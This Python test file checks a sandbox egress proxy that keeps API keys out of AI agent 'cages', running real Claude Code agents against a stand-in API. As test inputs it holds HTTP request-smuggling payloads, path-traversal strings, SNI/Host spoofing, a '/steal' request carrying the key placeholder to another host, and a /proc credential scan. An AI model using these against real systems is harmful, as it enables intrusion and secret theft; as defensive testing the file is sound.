"""Secrets never enter a cage (issue 16), attacked from inside real cages.

A secret ``anthropic`` is bound (hive.toml ``[[secret_binding]]``) for agents rtsc and
rtcc to ``api.anthropic.com:443``, header ``x-api-key: {}``, env ``ANTHROPIC_API_KEY``.
The proxy resolves api.anthropic.com, other.test and gh.test (``[egress] hosts``) to
HTTPS servers in a test network namespace (198.18.53.0/24): the Messages API stand-in
(tests/fake_anthropic.py), certificates from a test CA the proxy trusts through
``[egress] upstream_ca``. Each server notes what key each request carried (never the
key itself). rtsc may also reach other.test:443, and gh.test only by the L7 rule
``GET gh.test:443/repos/acme/*``.

The end-to-end cases run the real Claude Code CLI in cages: rtcc's turn goes to
"api.anthropic.com" through the proxy with TLS terminated, the stand-in checks the key,
the model's tool call reaches the hive, and the key is nowhere in the cage. Then the
demo's story with two Claude Code agents (rtcc and rtcd): the operator messages rtcc
through the gateway, rtcc asks rtcd, rtcd answers, rtcc asks the operator, the operator
answers with ``POST /answer-question/{id}``, and rtcc asks for an approval. The stand-in
answers by a script keyed on each turn's prompt (``STORY``), so the agents' turns may
come in any order; while they run, the test reads every cage process's /proc from the
host and finds the placeholder there, never the key.
"""

from __future__ import annotations

import contextlib
import datetime
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from helpers import assert_ok
from hive_fixture import VENV_BIN, HiveProcess, probe_result, running_hive, wait_until
from hyperhive.client import Client
from testnet import TestNet
from web_fixture import Web

KEY = "sk-ant-api03-REAL-" + "k3y" * 10
AGENT, CLAUDE, CLAUDE2 = "rtsc", "rtcc", "rtcd"
NET = TestNet(53, prefix="hvsc")
ANTH, OTHER, GH = NET.address(2), NET.address(3), NET.address(4)
HOSTS = {"api.anthropic.com": ANTH, "other.test": OTHER, "gh.test": GH}
FAKE = Path(__file__).resolve().parent.parent / "fake_anthropic.py"
ENV_FILE = "turn-env.json"
MODEL = "claude-sonnet-4-5"
HELLO = "Say hello to the operator."
# The stand-in's "model" (tests/fake_anthropic.py, ``script``): which tool calls a turn
# makes, by the turn's prompt. The story's is the demo's (src/hyperhive/demo/turn.py).
STORY = {
    "go": "Ship release 1.0 if nothing blocks it.",
    "ask": "Anything blocking release 1.0?",
    "answer": "Nothing blocks it: the tests are green.",
    "ask_operator": "rtcd says nothing blocks release 1.0. Ship it?",
    "operator": "yes, ship it",
    "approval": "publish release 1.0",
}
SCRIPT = [
    {"when": {"kind": "message", "from": "operator", "body_has": HELLO},
     "do": [["mcp__hive__send_message", {"to": "operator", "body": "hello through the egress proxy"}]]},
    {"when": {"kind": "message", "from": "operator", "body_has": STORY["go"]},
     "do": [["mcp__hive__ask", {"to": CLAUDE2, "question": STORY["ask"]}]]},
    {"when": {"kind": "question", "from": CLAUDE, "body_has": STORY["ask"]},
     "do": [["mcp__hive__answer", {"question_id": "$ref", "answer": STORY["answer"]}]]},
    {"when": {"kind": "answer", "from": CLAUDE2, "body_has": STORY["answer"]},
     "do": [["mcp__hive__ask", {"to": "operator", "question": STORY["ask_operator"]}]]},
    {"when": {"kind": "answer", "from": "operator", "body_has": STORY["operator"]},
     "do": [["mcp__hive__request_approval", {"kind": "custom", "description": STORY["approval"],
                                             "payload": {"release": "1.0"}}]]},
]
TEST_CA: dict[str, str] = {}
BINDING = """
[[secret_binding]]
secret = "anthropic"
agents = ["rtsc", "rtcc", "rtcd"]
to = "api.anthropic.com:443"
header = "x-api-key: {}"
env = "ANTHROPIC_API_KEY"
"""


def _cert(subject: str, key: ec.EllipticCurvePrivateKey, issuer: x509.Certificate | None,
          issuer_key: ec.EllipticCurvePrivateKey, sans: list[str] | None) -> x509.Certificate:
    now = datetime.datetime.now(datetime.UTC)
    b = (x509.CertificateBuilder()
         .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
         .issuer_name(issuer.subject if issuer else x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
         .public_key(key.public_key()).serial_number(x509.random_serial_number())
         .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=2))
         .add_extension(x509.BasicConstraints(ca=sans is None, path_length=None), critical=True))
    if sans:
        b = b.add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in sans]), critical=False)
    return b.sign(issuer_key, hashes.SHA256())


def _pem(key: ec.EllipticCurvePrivateKey) -> bytes:
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                             serialization.NoEncryption())


@contextlib.contextmanager
def cert_dir(prefix: str, ca_name: str, leaf_name: str, names: list[str]) -> Iterator[tuple[Path, bytes]]:
    """A test CA and a leaf for ``names`` in a fresh directory under /tmp (0755: the test
    servers in their network namespace read it): ``ca.pem`` and ``server.pem`` (key and
    leaf); yields the directory and the CA's PEM, and removes it after."""
    d = Path(tempfile.mkdtemp(prefix=prefix, dir="/tmp"))
    try:
        os.chmod(d, 0o755)
        ca_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
        ca = _cert(ca_name, ca_key, None, ca_key, None)
        leaf = _cert(leaf_name, key, ca, ca_key, names)
        ca_pem = ca.public_bytes(serialization.Encoding.PEM)
        (d / "ca.pem").write_bytes(ca_pem)
        (d / "server.pem").write_bytes(_pem(key) + leaf.public_bytes(serialization.Encoding.PEM))
        os.chmod(d / "ca.pem", 0o644)
        yield d, ca_pem
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def certs() -> Iterator[Path]:
    with cert_dir("hvsc", "test upstream CA", "test servers", list(HOSTS)) as (d, ca_pem):
        TEST_CA["pem"] = ca_pem.decode()
        yield d


@pytest.fixture(scope="module")
def net(certs: Path) -> Iterator[TestNet]:
    with NET as n:
        for address in (ANTH, OTHER, GH):
            actions = json.dumps({"script": SCRIPT} if address == ANTH else [])
            n.serve(address, 443, [sys.executable, str(FAKE), address, "443", str(certs / "server.pem"), "-" if address == GH else KEY,
                                   str(certs / f"seen-{address}.jsonl"), actions])
        yield n


def seen(certs: Path, address: str) -> list[dict[str, Any]]:
    path = certs / f"seen-{address}.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


@pytest.fixture(scope="module")
def hive(net: TestNet, certs: Path) -> Iterator[HiveProcess]:
    agents = {
        AGENT: {"runtime": "command",
                "command": ["python3", "-c", f"import json, os; json.dump(dict(os.environ), open({ENV_FILE!r}, 'w'))"],
                "egress": ["api.anthropic.com:443", f"{ANTH}:443", "other.test:443", f"{OTHER}:443",
                           "GET gh.test:443/repos/acme/*", f"{GH}:443"]},
        CLAUDE: {"runtime": "claude", "model": MODEL, "peers": [CLAUDE2],
                 "egress": ["api.anthropic.com:443", f"{ANTH}:443"]},
        CLAUDE2: {"runtime": "claude", "model": MODEL, "peers": [], "egress": ["api.anthropic.com:443", f"{ANTH}:443"]},
    }
    h = HiveProcess(agents, sections={"egress": {"hosts": HOSTS, "upstream_ca": str(certs / "ca.pem")}})
    h.config_path.write_text(h.config_path.read_text() + BINDING)
    h.write_config = lambda agents: None  # type: ignore[method-assign]  # keep the binding on restarts
    for hv in running_hive(h):
        assert_ok(hv.host_call("secret_set", name="anthropic", value=KEY))
        yield hv


@pytest.fixture(scope="module")
def placeholder(hive: HiveProcess) -> str:
    """The placeholder as rtsc's runtime sees it (its turn writes its environment)."""
    assert_ok(hive.host_call("send", to=AGENT, body="env please"))
    env_file = hive.home(AGENT) / ENV_FILE
    wait_until(env_file.exists, 60, "rtsc's turn to write its environment")
    env = wait_until(lambda: _json(env_file), 10, "the environment file")
    value = env["ANTHROPIC_API_KEY"]
    assert value.startswith("hive-placeholder-") and KEY not in json.dumps(env)
    assert env["SSL_CERT_FILE"] == "/run/hive/ca-bundle.pem" and env["NODE_EXTRA_CA_CERTS"] == "/run/hive/hive-ca.pem"
    return str(value)


def _json(path: Path) -> Any:
    try:
        return json.loads(path.read_text())
    except ValueError:
        return None


# In the cage: each case is [host, sni, raw request bytes (latin-1)]; one connection each,
# CONNECT host:443, TLS with the cage's trust (the bundle in SSL_CERT_FILE), the request,
# then everything read until the proxy closes.
TUNNEL = """
import ssl
def tunnel(host, sni, raw):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n\\r\\n".encode())
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            return {"connect": head.decode(errors="replace")}
        head += chunk
    if not head.startswith(b"HTTP/1.1 200"):
        return {"connect": head.decode(errors="replace")}
    try:
        ctx = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")
        ctx.load_verify_locations(cadata=P["test_ca"])  # a tunnelled test server's own CA
        t = ctx.wrap_socket(s, server_hostname=sni)
    except (ssl.SSLError, OSError) as e:
        return {"tls": type(e).__name__ + ": " + str(e)}
    t.sendall(raw.encode("latin-1"))
    out = b""
    while True:
        try:
            chunk = t.recv(65536)
        except (OSError, ssl.SSLError):
            break
        if not chunk:
            break
        out += chunk
    status = out.split(b" ", 2)[1].decode() if out.startswith(b"HTTP/1.1 ") else "0"
    return {"status": int(status), "body": out.partition(b"\\r\\n\\r\\n")[2].decode(errors="replace"),
            "raw": out.decode(errors="replace")}
result(**{k: tunnel(*v) for k, v in P["cases"].items()})
"""


def tunnels(hive: HiveProcess, cases: dict[str, tuple[str, str, str]]) -> dict[str, dict[str, Any]]:
    return probe_result(hive.probe(AGENT, TUNNEL, timeout=120, cases={k: list(v) for k, v in cases.items()},
                                   test_ca=TEST_CA["pem"]))


def get(path: str, host: str, *headers: str, method: str = "GET") -> str:
    return "".join([f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n", *(h + "\r\n" for h in headers),
                    "Connection: close\r\n\r\n"])


def refusals(hive: HiveProcess) -> list[str]:
    reply = assert_ok(hive.host_call("egress_log", name=AGENT, limit=500))
    return [e["reason"] for e in reply["entries"] if not e["allowed"]]


SMUGGLE = {
    "cl-te": "POST /v1/a HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 5\r\n"
             "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/smuggled HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n",
    "two-cl": "POST /v1/b HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc",
    "obs-fold": "GET /v1/c HTTP/1.1\r\nHost: api.anthropic.com\r\nX-A: 1\r\n x-api-key: {p}\r\n\r\n",
    "bare-lf": "GET /v1/d HTTP/1.1\nHost: api.anthropic.com\n\n",
    "te-obfuscated": "POST /v1/e HTTP/1.1\r\nHost: api.anthropic.com\r\nTransfer-Encoding: xchunked\r\n\r\n",
}
L7_CASES = {
    "allowed": ("gh.test", "gh.test", get("/repos/acme/widget?x=1", "gh.test")),
    "allowed-trailing-dot": ("gh.test.", "gh.test", get("/repos/acme/w2", "GH.test.")),
    "other-path": ("gh.test", "gh.test", get("/repos/evil/x", "gh.test")),
    "prefix": ("gh.test", "gh.test", get("/repos/acmeevil", "gh.test")),
    "method": ("gh.test", "gh.test", get("/repos/acme/x", "gh.test", method="DELETE")),
    "lower-method": ("gh.test", "gh.test", get("/repos/acme/x", "gh.test", method="get")),
    "dotdot-encoded": ("gh.test", "gh.test", get("/repos/acme/%2e%2e/%2e%2e/admin", "gh.test")),
    "dotdot": ("gh.test", "gh.test", get("/repos/acme/../../admin", "gh.test")),
    "double-slash": ("gh.test", "gh.test", get("//repos/acme/x", "gh.test")),
    "semicolon": ("gh.test", "gh.test", get("/repos/acme;/../admin", "gh.test")),
    "encoded-slash": ("gh.test", "gh.test", get("/repos/acme%2f..%2fadmin", "gh.test")),
    "absolute-form": ("gh.test", "gh.test", get("https://gh.test/admin", "gh.test")),
}


@pytest.fixture(scope="module")
def res(hive: HiveProcess, placeholder: str) -> dict[str, dict[str, Any]]:
    """Every tunnelled case of this module, from one probe in rtsc's cage (one connection each)."""
    key = f"x-api-key: {placeholder}"
    first = f"GET /v1/first HTTP/1.1\r\nHost: api.anthropic.com\r\n{key}\r\n\r\n"
    cases = {
        # the placeholder: swapped at the bound destination only
        "bound": ("api.anthropic.com", "api.anthropic.com", get("/v1/models", "api.anthropic.com", key)),
        "bound-trailing-dot": ("api.anthropic.com.", "api.anthropic.com", get("/v1/m2", "API.anthropic.com.", key)),
        "other-host": ("other.test", "other.test", get("/steal", "other.test", key)),
        "other-header": ("api.anthropic.com", "api.anthropic.com",
                         get("/v1/bearer", "api.anthropic.com", f"Authorization: Bearer {placeholder}")),
        # SNI and Host
        "sni-other": ("api.anthropic.com", "other.test", get("/sni", "api.anthropic.com", key)),
        "host-other": ("api.anthropic.com", "api.anthropic.com", get("/host", "other.test", key)),
        "host-other-port": ("api.anthropic.com", "api.anthropic.com", get("/port", "api.anthropic.com:8443", key)),
        # smuggling and pipelining
        **{k: ("api.anthropic.com", "api.anthropic.com", v.replace("{p}", placeholder)) for k, v in SMUGGLE.items()},
        "pipelined": ("api.anthropic.com", "api.anthropic.com", first + get("/v1/second", "api.anthropic.com", key)),
        **L7_CASES,
    }
    return tunnels(hive, cases)


@pytest.mark.attack("secrets.placeholder-elsewhere", ref="issue 16 item 3; NVIDIA/NemoClaw#4825")
def test_the_key_goes_only_to_the_bound_destination(res: dict[str, dict[str, Any]], certs: Path) -> None:
    assert res["bound"]["status"] == 200 and json.loads(res["bound"]["body"]) == {"path": "/v1/models"}, res
    assert res["bound-trailing-dot"]["status"] == 200, res
    # Elsewhere the placeholder went out unchanged: worthless (the server refused it).
    assert res["other-host"]["status"] == 401 and res["other-header"]["status"] == 401, res
    anth = {s["path"]: s for s in seen(certs, ANTH)}
    assert anth["/v1/models"]["key_ok"] and anth["/v1/m2"]["key_ok"]
    assert anth["/v1/bearer"]["key_ok"] is False and anth["/v1/bearer"]["placeholder"] is True
    [other] = [s for s in seen(certs, OTHER) if s["path"] == "/steal"]
    assert other["key_ok"] is False and other["placeholder"] is True
    assert all(KEY not in json.dumps(r) for r in res.values())


@pytest.mark.attack("egress.tls-sni-host", ref="issue 16 item 3; srt requireHostMatch; e2b-dev/infra#1597")
def test_sni_and_host_must_name_the_destination(res: dict[str, dict[str, Any]], hive: HiveProcess,
                                                certs: Path) -> None:
    assert "tls" in res["sni-other"], res  # the handshake itself fails
    for case in ("host-other", "host-other-port"):
        assert res[case]["status"] == 403 and "the destination of this tunnel" in res[case]["body"], res
    paths = {s["path"] for s in seen(certs, ANTH) + seen(certs, OTHER)}
    assert not paths & {"/sni", "/host", "/port"}  # nothing reached a server
    logged = refusals(hive)
    assert any("SNI must be api.anthropic.com" in r for r in logged), logged


@pytest.mark.attack("egress.request-smuggling", ref="issue 16 item 7; RFC 9112 11.2 (CL/TE, pipelining)")
def test_smuggling_and_pipelining_are_refused(res: dict[str, dict[str, Any]], hive: HiveProcess,
                                              certs: Path) -> None:
    for k in SMUGGLE:
        assert res[k]["status"] == 400, (k, res[k])
    assert res["pipelined"]["raw"].count("HTTP/1.1 200") == 1, res["pipelined"]
    paths = [s["path"] for s in seen(certs, ANTH)]
    assert "/v1/first" in paths
    for never in ("/v1/smuggled", "/v1/second", "/v1/a", "/v1/b", "/v1/c", "/v1/d", "/v1/e"):
        assert never not in paths, (never, paths)
    assert any("pipelined request" in r for r in refusals(hive))


@pytest.mark.attack("egress.l7-bypass", ref="issue 16 item 4; OpenShell L7 e2e; CVE-2021-41773 (%2e%2e)")
def test_l7_rules_hold_against_path_and_host_tricks(res: dict[str, dict[str, Any]], hive: HiveProcess,
                                                    certs: Path) -> None:
    assert res["allowed"]["status"] == 200 and json.loads(res["allowed"]["body"])["path"] == "/repos/acme/widget?x=1"
    assert res["allowed-trailing-dot"]["status"] == 200, res
    for case in ("other-path", "prefix", "method", "lower-method"):
        assert res[case]["status"] == 403 and "no egress rule allows" in res[case]["body"], (case, res[case])
    for case in ("dotdot-encoded", "dotdot", "double-slash", "semicolon", "encoded-slash", "absolute-form"):
        assert res[case]["status"] == 400, (case, res[case])
    paths = {s["path"] for s in seen(certs, GH)}
    assert paths == {"/repos/acme/widget?x=1", "/repos/acme/w2"}, paths
    logged = refusals(hive)
    assert "no egress rule allows GET gh.test:443/repos/evil/x (rules for it: GET gh.test:443/repos/acme/*);" \
           " ask for one with request_approval kind=egress" in logged


VALUE = "sk-ant-verbtest-0123456789abcdef"


def hive_cli(hive: HiveProcess, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(VENV_BIN / "hive"), "--run-dir", str(hive.run_dir), *args], input=stdin,
                          capture_output=True, text=True, timeout=30, check=False)


def agent_call(hive: HiveProcess, agent: str, cmd: str, **fields: Any) -> dict[str, Any]:
    with Client(hive.agent_sock(agent), timeout=10) as c:
        return c.call(cmd, **fields)


@pytest.mark.attack("secrets.store", ref="issue 16 item 1; NVIDIA/NemoClaw#4825")
def test_secret_set_ls_rm_never_show_the_value(hive: HiveProcess) -> None:
    core = hive
    proc = hive_cli(core, "secret", "set", "verbtest", stdin=VALUE + "\n")  # never argv
    assert proc.returncode == 0 and proc.stdout.strip() == "secret verbtest set", proc
    assert assert_ok(core.host_call("secret_set", name="verbtest", value=VALUE))["new"] is False
    # kept 0600 in a 0700 directory beside the database, one trailing newline dropped
    path = core.state_dir / "secrets" / "verbtest"
    assert path.read_text() == VALUE
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE((core.state_dir / "ca" / "ca.key").stat().st_mode) == 0o600

    bind = assert_ok(core.host_call(
        "secret_bind", name="verbtest", agents=[AGENT, CLAUDE], to="Other.TEST.:443",
        header="Authorization: Bearer {}", env="OTHER_TOKEN"))
    assert bind["to"] == "other.test:443"
    listing = assert_ok(core.host_call("secret_ls"))
    [row] = [s for s in listing["secrets"] if s["name"] == "verbtest"]
    assert row["set"] is True and row["set_at"].endswith("Z")
    assert [(b["agent"], b["to"], b["header"], b["env"]) for b in row["bindings"]] == [
        (CLAUDE, "other.test:443", "Authorization: Bearer {}", "OTHER_TOKEN"),
        (AGENT, "other.test:443", "Authorization: Bearer {}", "OTHER_TOKEN"),
    ]
    for out in (listing, proc.stdout, bind, core.log_tail(400)):
        assert VALUE not in json.dumps(out)

    assert assert_ok(core.host_call("secret_unbind", name="verbtest", agents=[CLAUDE]))["removed"] == 1
    assert_ok(core.host_call("secret_rm", name="verbtest"))
    assert not path.exists()
    gone = core.host_call("secret_rm", name="verbtest")
    assert gone == {"version": 1, "ok": False, "error": "no secret named 'verbtest'"}


@pytest.mark.attack("secrets.store", ref="issue 16 item 1")
@pytest.mark.parametrize(("fields", "error"), [
    ({"name": "x", "value": "a\nb"}, "printable ASCII"),
    ({"name": "x", "value": ""}, "empty"),
    ({"name": "x", "value": "k" * 20000}, "over 16384 bytes"),
    ({"name": "../x", "value": "v"}, "field 'name'"),
])
def test_a_bad_secret_is_refused_in_one_line_without_its_value(
    hive: HiveProcess, fields: dict[str, Any], error: str,
) -> None:
    reply = hive.host_call("secret_set", **fields)
    assert reply["ok"] is False and error in reply["error"], reply
    assert fields["value"][:8] not in reply["error"] or not fields["value"]
    assert not (hive.state_dir / "secrets" / "x").exists()


@pytest.mark.attack("secrets.store", ref="issue 16 item 2")
@pytest.mark.parametrize(("fields", "error"), [
    ({"to": "10.0.0.1:443"}, "NAME:PORT"),
    ({"to": "api.anthropic.com"}, "HOST:PORT"),
    ({"header": "x-api-key: nothing"}, "exactly one {}"),
    ({"header": "Host: {}"}, "cannot go in the 'host' header"),
    ({"env": "PATH"}, "reserved"),
    ({"agents": ["zed"]}, "no agent named 'zed'"),
])
def test_a_bad_binding_is_refused_and_changes_nothing(
    hive: HiveProcess, fields: dict[str, Any], error: str,
) -> None:
    req = {"name": "tok", "agents": [AGENT], "to": "other.test:443", "header": "x-api-key: {}", **fields}
    reply = hive.host_call("secret_bind", **req)
    assert reply["ok"] is False and error in reply["error"], reply
    assert all(s["name"] != "tok" for s in assert_ok(hive.host_call("secret_ls"))["secrets"])


@pytest.mark.attack("identity.forge-operator", ref="issue 16 item 1 (operator verbs only)")
def test_secret_verbs_do_not_exist_on_agent_sock(hive: HiveProcess) -> None:
    for cmd, fields in [("secret_set", {"name": "x", "value": "v"}), ("secret_ls", {}),
                        ("secret_bind", {"name": "x"}), ("secret_rm", {"name": "x"})]:
        reply = agent_call(hive, AGENT, cmd, **fields)
        assert reply == {"version": 1, "ok": False, "error": f"unknown command {cmd!r}"}


@pytest.mark.attack("secrets.read-from-cage", ref="issue 16 item 7; NVIDIA/NemoClaw#4825; typeclaw PR#707")
def test_the_real_claude_cli_runs_a_turn_and_the_cage_never_holds_the_key(
    hive: HiveProcess, certs: Path, placeholder: str,
) -> None:
    """Claude Code in a cage, its key a placeholder: the turn goes to api.anthropic.com
    through the proxy (TLS terminated, key swapped in), the model's tool call reaches
    the hive; then the key is looked for everywhere the cage can read."""
    row = hive.agent_status()[CLAUDE]
    assert row["needs_login"] is False, row  # a binding for api.anthropic.com:443 is a login
    assert_ok(hive.host_call("send", to=CLAUDE, body=HELLO))

    def delivered() -> list[dict[str, Any]] | None:
        msgs = [m for m in assert_ok(hive.host_call("inbox"))["messages"]
                if m["from"] == CLAUDE and m["kind"] == "message"]
        return msgs or None

    try:
        [msg] = wait_until(delivered, 120, "the claude agent's message to the operator", interval=0.3)
    except AssertionError:
        entries = assert_ok(hive.host_call("transcript", name=CLAUDE))["entries"]
        raise AssertionError(f"transcript: {json.dumps(entries)[-3000:]}\nlog:\n{hive.log_tail()}") from None
    assert msg["body"] == "hello through the egress proxy"
    calls = [s for s in seen(certs, ANTH) if s["path"].startswith("/v1/messages")]
    assert calls and all(s["key_ok"] for s in calls), calls
    assert_key_nowhere(hive, CLAUDE)


# Looked for everywhere a cage can read: every process's environ and cmdline, the home,
# /run/hive and /tmp (the probe runs in the cage, as the agent).
KEY_SEARCH = """
found = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for f in ("environ", "cmdline"):
            try:
                if P["key"].encode() in open(f"/proc/{pid}/{f}", "rb").read():
                    found.append(f"/proc/{pid}/{f}")
            except OSError:
                pass
for top in (os.environ["HOME"], "/run/hive", "/tmp"):
    for d, _, files in os.walk(top):
        for n in files:
            try:
                if P["key"].encode() in open(os.path.join(d, n), "rb").read():
                    found.append(os.path.join(d, n))
            except OSError:
                pass
result(found=found, env=P["key"] in json.dumps(dict(os.environ)), run_hive=sorted(os.listdir("/run/hive")))
"""


def assert_key_nowhere(hive: HiveProcess, agent: str) -> None:
    """The key is in nothing ``agent``'s cage can read, in no file of any home (read as
    root), in no transcript and not in the hive's log."""
    res = probe_result(hive.probe(agent, KEY_SEARCH, key=KEY))
    assert res["found"] == [] and res["env"] is False, res
    assert res["run_hive"] == ["agent.sock", "ca-bundle.pem", "egress-handover.sock", "egress.sock", "hive-ca.pem"], res
    for name in (CLAUDE, CLAUDE2, AGENT):
        for d, _, files in os.walk(hive.home(name)):
            for n in files:
                p = Path(d) / n
                if p.is_file() and not p.is_symlink():
                    assert KEY.encode() not in p.read_bytes(), p
    entries = assert_ok(hive.host_call("transcript", name=agent))["entries"]
    assert KEY not in json.dumps(entries) and KEY not in hive.log_tail(2000)


class CageWatch:
    """Reads /proc/PID/environ and cmdline of every process in the cages of ``agents``
    from the host, each time it is called (the story's waits call it): the Claude Code
    processes it caught must hold the placeholder, and none may hold the key."""

    def __init__(self, hive: HiveProcess, agents: tuple[str, ...]) -> None:
        self.hive, self.agents = hive, agents
        self.claude_pids: dict[str, set[int]] = {a: set() for a in agents}
        self.with_placeholder: set[int] = set()
        self.found: list[str] = []

    def __call__(self, placeholder: str) -> None:
        for agent in self.agents:
            for pid in self.hive.cgroup(agent).pids():
                try:
                    env = Path(f"/proc/{pid}/environ").read_bytes()
                    cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
                except OSError:
                    continue  # gone already
                if KEY.encode() in env or KEY.encode() in cmdline:
                    self.found.append(f"{agent}: /proc/{pid}")
                if b"claude" in cmdline:
                    self.claude_pids[agent].add(pid)
                    if f"ANTHROPIC_API_KEY={placeholder}".encode() in env.split(b"\0"):
                        self.with_placeholder.add(pid)


def pending_of(hive: HiveProcess, agent: str) -> list[dict[str, Any]]:
    return [a for a in assert_ok(hive.host_call("pending", limit=200))["approvals"] if a["agent"] == agent]


@pytest.mark.attack("secrets.read-from-cage", ref="issue 16 item 6 (the demo's story with a real runtime)")
def test_the_story_with_two_claude_code_agents_and_the_operator(
    hive: HiveProcess, certs: Path, placeholder: str,
) -> None:
    """rtcc and rtcd are the real Claude Code CLI in cages, their key a placeholder. The
    operator (a real session, through the gateway) messages rtcc; rtcc asks rtcd through
    the hive's MCP tools; rtcd answers; rtcc asks the operator; the operator answers with
    POST /answer-question/{id}; rtcc asks for an approval, which the operator sees pending."""
    web = Web(hive)
    login = web.login()
    watch = CageWatch(hive, (CLAUDE, CLAUDE2))
    before = len([s for s in seen(certs, ANTH) if s["path"].startswith("/v1/messages")])

    def waiting(pred: Any, what: str) -> Any:
        def check() -> Any:
            watch(placeholder)
            return pred()
        try:
            return wait_until(check, 60, what, interval=0.2)
        except AssertionError:
            tails = {n: json.dumps(assert_ok(hive.host_call("transcript", name=n))["entries"])[-2000:]
                     for n in (CLAUDE, CLAUDE2)}
            raise AssertionError(f"{what}: transcripts {tails}\nlog:\n{hive.log_tail()}") from None

    r = web.post(f"/api/agents/{CLAUDE}/send", login, data={"body": STORY["go"]})
    assert r.status_code == 200 and r.json()["ok"], (r.status_code, r.text)

    def operator_question() -> dict[str, Any] | None:
        rows = assert_ok(hive.host_call("questions", limit=200))["questions"]
        return next((q for q in rows if q["question"] == STORY["ask_operator"]), None)

    q = waiting(operator_question, "rtcc's question to the operator")
    assert q["asker"] == CLAUDE, q
    # It came after rtcd's answer to rtcc's question (the stand-in asks the operator only
    # on that answer): both are in the hive's database, as the agents' tools left them.
    db = sqlite3.connect(f"file:{hive.state_dir / 'hive.db'}?mode=ro", uri=True, timeout=10)
    try:
        asked = db.execute("SELECT asker, target, answer FROM questions WHERE question = ?",
                           (STORY["ask"],)).fetchall()
    finally:
        db.close()
    assert asked == [(CLAUDE, CLAUDE2, STORY["answer"])], asked

    r = web.post(f"/answer-question/{q['id']}", login, data={"answer": STORY["operator"]})
    assert r.status_code == 200 and r.json()["ok"], (r.status_code, r.text)
    [approval] = waiting(lambda: pending_of(hive, CLAUDE) or None, "rtcc's approval request")
    assert (approval["kind"], approval["description"], approval["status"]) == (
        "custom", STORY["approval"], "pending"), approval
    assert approval["payload"] == {"release": "1.0"}, approval

    # Every model call of the story carried the real key when it reached the stand-in: four
    # turns, two calls each at least (a tool call, then the text after its result; the last
    # one may still be on its way when the approval shows).
    def model_calls() -> list[dict[str, Any]] | None:
        calls = [s for s in seen(certs, ANTH) if s["path"].startswith("/v1/messages")][before:]
        return calls if len(calls) >= 8 else None

    calls = waiting(model_calls, "the story's last model call")
    assert all(s["key_ok"] for s in calls), calls
    # Claude Code ran in both cages, with the placeholder in its environment, never the key.
    assert watch.found == [], watch.found
    assert all(watch.claude_pids[a] for a in (CLAUDE, CLAUDE2)), watch.claude_pids
    assert watch.with_placeholder, watch.claude_pids
    for agent in (CLAUDE, CLAUDE2):
        assert_key_nowhere(hive, agent)


@pytest.mark.attack("egress.l7-bypass", ref="issue 16 item 4 (an L7 rule by approval, shown exactly, applied once)")
def test_an_agent_asks_for_an_l7_rule_and_gets_exactly_it(hive: HiveProcess) -> None:
    payload = {"host": "GH.test.", "port": 443, "method": "GET", "path": "/orgs/acme/*"}
    proc = hive.exec(AGENT, "hive", "agent", "request-approval", "--json", "egress", "read acme's org",
                     "--payload", json.dumps(payload))
    assert proc.returncode == 0, proc.stderr
    aid = json.loads(proc.stdout)["id"]
    row = assert_ok(hive.host_call("show_approval", id=aid))["approval"]
    assert row["allows"] == "GET gh.test:443/orgs/acme/*"  # what the operator approves, worked out by the hive
    assert_ok(hive.host_call("approve", id=aid))
    rules = [r["rule"] for r in assert_ok(hive.host_call("egress_rules", name=AGENT))["rules"][AGENT]]
    assert rules.count("GET gh.test:443/orgs/acme/*") == 1
    again = hive.host_call("approve", id=aid)
    assert again["ok"] is False, again


@pytest.mark.attack("secrets.read-from-cage", ref="issue 16 item 2 (hive exec sees the runtime's placeholders)")
def test_hive_exec_sees_the_placeholders_the_runtime_sees(hive: HiveProcess, placeholder: str) -> None:
    """A command the operator runs in the cage (clean, or as the agent) has the variables
    of the agent's bindings with the same placeholders as its turns, never the key."""
    runtime = _json(hive.home(AGENT) / ENV_FILE)
    shown = assert_ok(hive.host_call("agent_env", name=AGENT))["env"]
    assert shown["ANTHROPIC_API_KEY"] == placeholder
    assert KEY not in json.dumps(shown)
    for flags in ((), ("--as-agent",)):
        proc = hive.exec(AGENT, "python3", "-c", "import json, os; print(json.dumps(dict(os.environ)))", flags=flags)
        assert proc.returncode == 0, proc.stderr
        env = json.loads(proc.stdout)
        assert {k: v for k, v in runtime.items() if v.startswith("hive-placeholder-")} == {
            k: v for k, v in env.items() if k in runtime and v.startswith("hive-placeholder-")}, (flags, env)
        assert env["ANTHROPIC_API_KEY"] == placeholder and {k: env[k] for k in shown} == shown, (flags, env)
        assert KEY not in proc.stdout + proc.stderr
    assert hive.host_call("agent_env", name="nobody") == {"version": 1, "ok": False, "error": "no agent named 'nobody'"}
